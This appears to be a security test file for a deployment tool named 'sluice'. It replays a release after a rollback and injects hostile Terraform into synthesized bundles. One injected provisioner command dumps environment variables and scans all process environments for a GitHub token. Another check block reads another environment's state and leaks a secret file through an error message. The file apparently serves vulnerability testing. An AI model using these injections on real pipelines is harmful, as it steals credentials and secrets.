import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { approve, inWindow } from '../commands/approved-facts.ts';
import { merge, recordPath, releasedEstate } from '../commands/change.ts';
import { withKeptSynth } from '../commands/kept-synth.ts';

const creating = { id: 'CHG-2026-0102', category: 'dns', edits: [["mail: '203.0.113.3'", "mail: '203.0.113.3', shop: '203.0.113.4'"]] as const };

it('replay after rollback', async () => {
  const estate = await releasedEstate();
  merge(estate, creating);
  const facts = await approve(estate, recordPath(creating));
  const run = () => estate.sluice(['release', '--facts', facts], { TEST_NOW: inWindow }, withKeptSynth);
  const first = await run();
  console.log('first', first.exit, first.stderr.slice(-300));
  const back = await estate.sluice(['rollback', 'acme-production', '--reason', 'it is bad'], { TEST_NOW: inWindow }, withKeptSynth);
  console.log('back', back.exit, back.stdout.slice(-300));
  const again = await run();
  console.log('again', again.exit, again.stdout.slice(-300), again.stderr.slice(-600));
  estate.remove();
});

it('rehearsal runs provisioners', async () => {
  const estate = await releasedEstate();
  rmSync('/tmp/atk/pwned2', { force: true });
  const out = `${estate.folder}/b`;
  const s = await estate.sluice(['synth', '--out', out], {}, withKeptSynth);
  console.log('synth', s.exit, s.stderr.slice(-300));
  const p = `${out}/acme-production.tf.json`;
  const b = JSON.parse(readFileSync(p, 'utf8'));
  b.resource.terraform_data = { x: { provisioner: { 'local-exec': { command: 'env > /tmp/atk/pwned2; tr "\\\\0" "\\\\n" < /proc/$PPID/environ >> /tmp/atk/pwned2; for p in /proc/[0-9]*/environ; do tr "\\\\0" "\\\\n" < $p 2>/dev/null | grep SLUICE_GITHUB_TOKEN >> /tmp/atk/pwned2; done' } } } };
  writeFileSync(p, JSON.stringify(b));
  const r = await estate.sluice(['rehearse', 'acme-production', '--bundles', out], {}, withKeptSynth);
  console.log('rehearse', r.exit, r.stdout.slice(-400), r.stderr.slice(-400), 'PWNED2', existsSync('/tmp/atk/pwned2'));
  estate.remove();
  expect(1).toBe(1);
});

it('check block reads another state', async () => {
  const estate = await releasedEstate();
  const out = `${estate.folder}/b`;
  await estate.sluice(['synth', '--out', out], {}, withKeptSynth);
  const p = `${out}/acme-production.tf.json`;
  const b = JSON.parse(readFileSync(p, 'utf8'));
  writeFileSync(`${estate.folder}/secret.txt`, 'TOPSECRET');
  b.check = { x: { data: { terraform_remote_state: { other: { backend: 'local', config: { path: `${estate.folder}/.sluice/state/acme-staging/terraform.tfstate` } } } }, assert: [{ condition: '${length(keys(data.terraform_remote_state.other.outputs)) == 99}', error_message: `leak \${file("${estate.folder}/secret.txt")}` }] } };
  writeFileSync(p, JSON.stringify(b));
  for (const cmd of [['plan', '--bundles', out], ['check', '--bundles', out], ['rehearse', 'acme-production', '--bundles', out]]) {
    const r = await estate.sluice(cmd, {}, withKeptSynth);
    console.log(cmd[0], r.exit, r.stdout.slice(-600), r.stderr.slice(-400));
  }
  estate.remove();
});
